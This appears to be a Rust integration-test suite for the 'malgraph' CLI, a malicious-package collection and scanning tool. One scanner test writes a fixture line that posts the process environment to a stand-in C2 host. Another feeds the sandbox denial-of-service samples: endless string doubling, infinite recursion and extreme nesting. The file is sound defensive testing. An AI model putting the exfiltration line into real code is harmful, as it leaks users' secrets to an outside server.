//! Integration tests for the `malgraph` CLI binary: the downstream-user
//! flow (world → collect → analyze → scan) through a real process.

use std::process::Command;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_malgraph"))
}

#[test]
fn world_prints_statistics() {
    let out = bin()
        .args(["world", "--seed", "5", "--scale", "0.02"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("packages"));
    assert!(text.contains("campaigns"));
    assert!(text.contains("mirrors"));
}

#[test]
fn collect_then_analyze_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(corpus.exists());

    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("relation graphs"));
    assert!(text.contains("missing rate"));
    assert!(text.contains("ops over"));

    std::fs::remove_dir_all(&dir).ok();
}

/// Collects a small corpus, lets `damage` edit it (returning the id of
/// the package it damaged), and runs `analyze` on the edited corpus.
/// Returns that id, `analyze`'s exit code and its stderr.
fn analyze_damaged_corpus(
    name: &str,
    damage: impl FnOnce(&mut malgraph::crawler::CollectedDataset) -> String,
) -> (String, Option<i32>, String) {
    use malgraph::crawler::{export_json, import_json, ExportFidelity};
    let dir = std::env::temp_dir().join(format!("malgraph-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let out = bin()
        .args(["collect", "--seed", "5", "--scale", "0.02", "--out"])
        .arg(&corpus)
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut dataset = import_json(&std::fs::read_to_string(&corpus).unwrap()).unwrap();
    let id = damage(&mut dataset);
    let damaged = dir.join("damaged.json");
    std::fs::write(
        &damaged,
        export_json(&dataset, ExportFidelity::Full).unwrap(),
    )
    .unwrap();

    let out = bin()
        .args(["analyze", "--corpus"])
        .arg(&damaged)
        .output()
        .expect("binary runs");
    std::fs::remove_dir_all(&dir).ok();
    (
        id,
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn analyze_rejects_a_corpus_that_repeats_a_package_id() {
    // Append a copy of one available PyPI package record.
    let (id, code, stderr) = analyze_damaged_corpus("repeat", |dataset| {
        let copy = dataset
            .packages
            .iter()
            .find(|p| p.archive.is_some() && p.id.to_string().starts_with("pypi/"))
            .expect("corpus has an available PyPI package")
            .clone();
        let id = copy.id.to_string();
        dataset.packages.push(copy);
        id
    });
    assert_eq!(code, Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!("package {id} appears twice")),
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn analyze_rejects_a_package_with_no_mentions() {
    // An available package, so the build would draw its dependency edges.
    let (id, code, stderr) = analyze_damaged_corpus("unmentioned", |dataset| {
        let package = dataset
            .packages
            .iter_mut()
            .find(|p| p.archive.is_some())
            .expect("corpus has an available package");
        package.mentions.clear();
        package.id.to_string()
    });
    assert_eq!(code, Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!("package {id} has no mentions")),
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn scan_flags_malicious_code_with_nonzero_exit() {
    let dir = std::env::temp_dir().join(format!("malgraph-scan-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let evil = dir.join("evil.pyl");
    std::fs::write(
        &evil,
        "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
    )
    .unwrap();
    let out = bin()
        .args(["scan", evil.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1), "malicious scan exits 1");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("malicious=true"));
    assert!(text.contains("exfiltration"));

    let clean = dir.join("clean.pyl");
    std::fs::write(&clean, "def add(a, b):\n    return a + b\n").unwrap();
    let out = bin()
        .args(["scan", clean.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(0), "clean scan exits 0");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn scan_survives_hostile_code_and_reports_deep_nesting() {
    let dir = std::env::temp_dir().join(format!("malgraph-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
    for (name, code) in [
        // Doubling a string reaches gigabytes well within the fuel.
        (
            "doubling",
            "s = 'ab'\nwhile True:\n    s = s + s\n".to_owned(),
        ),
        // Unbounded recursion, with and without an argument.
        ("recursion", "def f():\n    f()\n\nf()\n".to_owned()),
        (
            "recursion_arg",
            "def f(n):\n    return f(n)\n\nf(1)\n".to_owned(),
        ),
        ("nesting", deep),
    ] {
        let path = dir.join(format!("{name}.pyl"));
        std::fs::write(&path, code).unwrap();
        let out = bin()
            .args(["scan", path.to_str().unwrap()])
            .output()
            .expect("binary runs");
        let text = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(0), "{name}: {text}");
        assert!(
            text.contains("sandbox: labels=[\"clean\"]"),
            "{name}: {text}"
        );
        assert_eq!(
            text.contains("parse  : parse error at line 1: nesting deeper than 100 levels"),
            name == "nesting",
            "{name}: {text}"
        );
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_usage_exits_with_error() {
    let out = bin().output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let out = bin().args(["analyze"]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn invalid_scale_values_are_rejected() {
    for scale in ["0", "-0.5", "1.5", "nan", "inf"] {
        let out = bin()
            .args(["world", "--scale", scale])
            .output()
            .expect("binary runs");
        assert_eq!(
            out.status.code(),
            Some(2),
            "--scale {scale} must be rejected"
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("--scale"), "{err}");
    }
}

#[test]
fn unknown_flags_are_rejected() {
    let out = bin()
        .args(["world", "--sedd", "5"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("unknown flag --sedd"), "{err}");
}

#[test]
fn threads_zero_is_rejected_with_usage_error() {
    let out = bin()
        .args(["collect", "--threads", "0", "--out", "x.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--threads must be at least 1"), "{err}");
}

#[test]
fn flags_are_validated_per_subcommand() {
    for (args, flag) in [
        (
            vec!["analyze", "--fault-rate", "0.5", "--corpus", "x.json"],
            "--fault-rate",
        ),
        (
            vec!["analyze", "--threads", "2", "--corpus", "x.json"],
            "--threads",
        ),
        (vec!["scan", "--out", "x.json", "file.pyl"], "--out"),
        (vec!["world", "--metrics-out", "m.json"], "--metrics-out"),
        (vec!["world", "--profile-out", "p.folded"], "--profile-out"),
        (vec!["stats", "--seed", "5"], "--seed"),
        (
            vec!["collect", "--threshold", "0.1", "--out", "x.json"],
            "--threshold",
        ),
        (
            vec!["perf", "--metrics-out", "m.json", "diff", "a", "b"],
            "--metrics-out",
        ),
    ] {
        let out = bin().args(&args).output().expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "{args:?} must be rejected");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!("{flag} is not supported by `{}`", args[0])),
            "{args:?}: {err}"
        );
    }
    // Stray positionals on positional-free subcommands are errors too.
    let out = bin()
        .args(["analyze", "--corpus", "x.json", "oops"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unexpected argument"));
}

#[test]
fn collect_writes_metrics_and_trace_files_and_stats_reads_them_back() {
    let dir = std::env::temp_dir().join(format!("malgraph-obs-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let metrics = dir.join("metrics.json");
    let trace = dir.join("trace.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
            "--metrics-out",
            metrics.to_str().unwrap(),
            "--trace-out",
            trace.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let metrics_json = std::fs::read_to_string(&metrics).expect("metrics file written");
    assert!(
        metrics_json.contains("\"schema\": \"malgraph-obs/2\""),
        "{metrics_json}"
    );
    assert!(metrics_json.contains("crawler.attempts"), "{metrics_json}");
    assert!(metrics_json.contains("collect/feeds"), "{metrics_json}");
    let trace_json = std::fs::read_to_string(&trace).expect("trace file written");
    assert!(trace_json.starts_with("{\"displayTimeUnit\":\"ms\",\"traceEvents\":["));
    assert!(trace_json.contains("\"ph\":\"X\""), "{trace_json}");

    let out = bin()
        .args(["stats", metrics.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("stages (span rollups)"), "{text}");
    assert!(text.contains("collect/feeds"), "{text}");
    assert!(text.contains("counters"), "{text}");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn stats_rejects_missing_and_foreign_files() {
    let out = bin()
        .args(["stats", "/nonexistent/metrics.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));

    let dir = std::env::temp_dir().join(format!("malgraph-stats-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let foreign = dir.join("foreign.json");
    std::fs::write(&foreign, "{\"schema\": \"something-else/9\"}").unwrap();
    let out = bin()
        .args(["stats", foreign.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unsupported snapshot schema"));
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn stats_sorts_rows_by_name_even_for_unsorted_input() {
    let dir = std::env::temp_dir().join(format!("malgraph-sort-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    // A legacy (schema /1), deliberately unsorted snapshot: the table
    // must come out name-sorted regardless of file order.
    let snapshot = dir.join("unsorted.json");
    std::fs::write(
        &snapshot,
        r#"{
  "schema": "malgraph-obs/1",
  "counters": {"zz.last": 1, "aa.first": 2, "mm.middle": 3},
  "gauges": {},
  "histograms": {},
  "spans": {"zeta/stage": {"count": 1, "total_us": 5}, "alpha/stage": {"count": 1, "total_us": 9}},
  "events_dropped": 0
}"#,
    )
    .unwrap();
    let out = bin()
        .args(["stats", snapshot.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    let pos = |needle: &str| {
        text.find(needle)
            .unwrap_or_else(|| panic!("{needle} missing: {text}"))
    };
    assert!(
        pos("alpha/stage") < pos("zeta/stage"),
        "spans must be name-sorted: {text}"
    );
    assert!(
        pos("aa.first") < pos("mm.middle") && pos("mm.middle") < pos("zz.last"),
        "counters must be name-sorted: {text}"
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn perf_diff_passes_identical_and_catches_injected_regression() {
    let dir = std::env::temp_dir().join(format!("malgraph-perf-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let base = dir.join("base.json");
    let slow = dir.join("slow.json");
    // A quick-bench-shaped report; `slow` injects a 10.1% regression
    // into one stage time.
    std::fs::write(
        &base,
        r#"{"bench": "demo", "full_build_ms": 1000, "delta_ingest_ms": 130, "speedup": 7.7}"#,
    )
    .unwrap();
    std::fs::write(
        &slow,
        r#"{"bench": "demo", "full_build_ms": 1101, "delta_ingest_ms": 130, "speedup": 7.0}"#,
    )
    .unwrap();

    // Identical snapshots diff clean and exit 0.
    let out = bin()
        .args([
            "perf",
            "diff",
            base.to_str().unwrap(),
            base.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 regressed"), "{text}");

    // The injected regression fails the gate with exit 1 and names the
    // offending metric. The speedup drop is informational, not a failure.
    let out = bin()
        .args([
            "perf",
            "diff",
            base.to_str().unwrap(),
            slow.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(1),
        "a 10.1% regression must fail the gate"
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("full_build_ms"), "{text}");
    assert!(text.contains("REGRESSED"), "{text}");
    assert!(text.contains("1 regressed"), "{text}");

    // A looser threshold waves the same delta through.
    let out = bin()
        .args([
            "perf",
            "diff",
            base.to_str().unwrap(),
            slow.to_str().unwrap(),
            "--threshold",
            "0.25",
        ])
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );

    // Usage errors: missing paths, unknown action, unreadable file.
    let out = bin().args(["perf", "diff"]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let out = bin()
        .args([
            "perf",
            "compare",
            base.to_str().unwrap(),
            slow.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown perf action"));
    let out = bin()
        .args([
            "perf",
            "diff",
            "/nonexistent/base.json",
            slow.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn perf_diff_reads_real_metrics_snapshots() {
    let dir = std::env::temp_dir().join(format!("malgraph-perfsnap-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let metrics = dir.join("metrics.json");
    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
            "--metrics-out",
            metrics.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // A real malgraph-obs/2 snapshot diffed against itself: clean pass.
    let out = bin()
        .args([
            "perf",
            "diff",
            metrics.to_str().unwrap(),
            metrics.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 regressed"), "{text}");
    assert!(
        !text.contains("0 compared"),
        "snapshot entries must load: {text}"
    );

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn profile_out_writes_folded_stacks_with_alloc_weights() {
    let dir = std::env::temp_dir().join(format!("malgraph-folded-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let profile = dir.join("profile.folded");
    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
            "--profile-out",
            profile.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Folded self-time profile: `parent;child value` lines, nested
    // collect stages under the collect root.
    let folded = std::fs::read_to_string(&profile).expect("profile written");
    assert!(
        folded.lines().any(|l| l.starts_with("collect ")),
        "{folded}"
    );
    assert!(
        folded
            .lines()
            .any(|l| l.starts_with("collect;collect/feeds ")),
        "{folded}"
    );
    assert!(
        folded
            .lines()
            .any(|l| l.starts_with("collect;collect/feeds;collect/feeds/source=")),
        "per-source spans must nest under the feeds stage: {folded}"
    );
    for line in folded.lines() {
        let (stack, value) = line.rsplit_once(' ').expect("stack <value> shape");
        assert!(!stack.is_empty());
        value.parse::<u64>().expect("integer weight");
    }

    // The sibling .alloc profile carries self-allocated bytes and the
    // counting allocator was live: at least one frame is non-zero.
    let alloc = std::fs::read_to_string(format!("{}.alloc", profile.to_str().unwrap()))
        .expect("alloc profile written");
    let weights: Vec<u64> = alloc
        .lines()
        .map(|l| l.rsplit_once(' ').unwrap().1.parse().unwrap())
        .collect();
    assert!(
        weights.iter().any(|&w| w > 0),
        "alloc accounting recorded nothing: {alloc}"
    );

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn faulty_collect_prints_the_health_table_and_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-fault-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--fault-rate",
            "0.3",
            "--retries",
            "3",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("collection health"), "{text}");
    assert!(text.contains("report-corpus"), "{text}");
    assert!(text.contains("total"), "{text}");

    // The resilient manifest is still a valid analyze input.
    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Out-of-range fault rates die with usage errors.
    let out = bin()
        .args(["collect", "--fault-rate", "1.5", "--out", "x.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--fault-rate"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn checkpointed_ingest_crashes_then_resumes_byte_identically() {
    let dir = std::env::temp_dir().join(format!("malgraph-ckpt-cli-{}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    let ckpt = dir.join("ckpt");
    let run = |crash: Option<&str>, verify: bool| {
        let mut cmd = bin();
        cmd.args([
            "ingest",
            "--seed",
            "7",
            "--scale",
            "0.02",
            "--windows",
            "3",
            "--checkpoint-dir",
            ckpt.to_str().unwrap(),
        ]);
        if let Some(spec) = crash {
            cmd.args(["--crash-at", spec]);
        }
        if verify {
            cmd.arg("--verify");
        }
        cmd.output().expect("binary runs")
    };

    // Crash at the second delta apply: exit 3, durable state behind.
    let out = run(Some("ingest/apply:2"), false);
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("simulated crash"));
    assert!(ckpt.join("RUN.json").exists());
    assert!(
        ckpt.join("gen-000001.json").exists(),
        "first window checkpointed"
    );
    assert!(
        ckpt.join("journal").join("window-000001.json").exists(),
        "second window journaled"
    );

    // Resume: finishes the plan and verifies against the one-shot oracle.
    let out = run(None, true);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("resuming from checkpoint generation"),
        "{text}"
    );
    assert!(text.contains("ingested 3 windows"), "{text}");
    assert!(
        text.contains("verify: incremental graph is identical"),
        "resume must be byte-identical: {text}"
    );

    // A different seed against the same directory is refused up front.
    let out = bin()
        .args([
            "ingest",
            "--seed",
            "8",
            "--scale",
            "0.02",
            "--windows",
            "3",
            "--checkpoint-dir",
            ckpt.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("belongs to a different run"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn crash_at_flag_is_validated() {
    // Without durability a crash only loses work; refuse it.
    let out = bin()
        .args(["ingest", "--scale", "0.02", "--crash-at", "ingest/apply"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--crash-at requires --checkpoint-dir"));
    assert!(out.stdout.is_empty(), "rejected before any work");

    // Malformed specs and points the driver never fires die while the
    // flags are parsed, before any world is generated (nothing on
    // stdout); an unknown point would otherwise run to completion.
    for (spec, reason) in [
        ("ingest/apply:0", "occurrence must be >= 1"),
        ("ingest/apply:x", "occurrence is not a number"),
        (":3", "empty point name"),
        ("bogus", "unknown crash point"),
        ("ingest/aply:2", "unknown crash point"),
    ] {
        let out = bin()
            .args([
                "ingest",
                "--scale",
                "0.02",
                "--checkpoint-dir",
                "/nonexistent-ckpt-dir-validation",
                "--crash-at",
                spec,
            ])
            .output()
            .expect("binary runs");
        assert_eq!(
            out.status.code(),
            Some(2),
            "--crash-at {spec} must be rejected"
        );
        assert!(
            out.stdout.is_empty(),
            "--crash-at {spec} must be rejected before any work: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(reason), "--crash-at {spec}: {stderr}");
        if reason == "unknown crash point" {
            assert!(
                stderr.contains("valid: collect/merge, ingest/journal"),
                "the error lists the valid points: {stderr}"
            );
        }
    }
}

#[test]
fn stats_and_perf_diff_reject_empty_and_entryless_snapshots() {
    let dir = std::env::temp_dir().join(format!("malgraph-empty-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    // A zero-byte snapshot: both readers die with a parse error, not a
    // panic or an empty table.
    let empty = dir.join("empty.json");
    std::fs::write(&empty, "").unwrap();
    let out = bin()
        .args(["stats", empty.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let out = bin()
        .args([
            "perf",
            "diff",
            empty.to_str().unwrap(),
            empty.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));

    // A valid-schema snapshot with no metric entries would diff as "no
    // regressions" — the silent zero the gate must refuse.
    let hollow = dir.join("hollow.json");
    std::fs::write(&hollow, r#"{"schema": "malgraph-obs/2"}"#).unwrap();
    let out = bin()
        .args([
            "perf",
            "diff",
            hollow.to_str().unwrap(),
            hollow.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(2),
        "entry-less snapshots must not pass the gate"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("no metrics to compare"));

    std::fs::remove_dir_all(&dir).ok();
}
